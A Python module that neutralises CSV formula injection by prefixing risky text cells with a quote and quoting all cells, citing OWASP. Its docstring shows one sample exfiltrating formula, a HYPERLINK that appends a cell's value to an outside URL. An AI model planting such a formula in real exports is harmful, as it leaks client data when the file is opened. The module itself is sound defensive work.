"""CSV cells a spreadsheet will not run.

A cell that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is read by
Excel, LibreOffice and Google Sheets as a formula: ``=HYPERLINK("http://…?"&A1, "Click")``
in a client's name would send the row elsewhere when a biller opens the export. OWASP's "CSV
Injection" page (owasp.org/www-community/attacks/CSV_Injection) gives the defence used
here: prefix such a cell with a single quote, and quote every cell, escaping embedded
double quotes (``csv.QUOTE_ALL``). Numbers stay numbers: only text is touched.
"""

from __future__ import annotations

import csv
from collections.abc import Mapping
from typing import Any, Final, Literal

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
QUOTING: Final[Literal[1]] = csv.QUOTE_ALL


def safe_cell(value: Any) -> Any:
    """``value`` as a spreadsheet shows it and never evaluates it."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def safe_row(row: Mapping[str, Any]) -> dict[str, Any]:
    return {name: safe_cell(value) for name, value in row.items()}
